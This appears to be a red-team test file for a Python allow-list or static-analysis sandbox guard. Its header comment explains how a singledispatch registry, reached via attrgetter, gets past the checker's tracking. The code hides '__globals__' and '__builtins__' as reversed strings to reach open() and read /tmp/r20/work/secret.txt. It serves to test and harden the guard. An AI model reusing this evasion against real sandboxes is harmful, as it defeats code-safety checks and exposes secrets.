# family: red team, round 20 (classes reaching parameters unnoticed; allow-list guards)
# Chain: the singledispatch class channel is noted only for a written `.registry`/`.dispatch`
# (attributes._notable); operator.attrgetter("registry") goes through dynamic_names.attribute_callable and is
# not noted. Iterating the registry hands out Reader without its name used as a value; own_object keeps
# trusting self in Reader.fetch, and c.fetch(box, fn) runs with a namedtuple whose FIELDS is run-time data.
from collections import namedtuple
from functools import singledispatch
from operator import attrgetter


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


@singledispatch
def describe(x):
    return "thing"


@describe.register
def _(x: Reader):
    return "reader"


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    for c in attrgetter("registry")(describe):
        if c is not object:
            got = call_read(c, box, helper)[0]
            print(sorted(got.keys())[:8])
            b = got["".join(reversed("__snitliub__"))]
            print(b)
            print(getattr(b, "open")("/tmp/r20/work/secret.txt").read())


run()
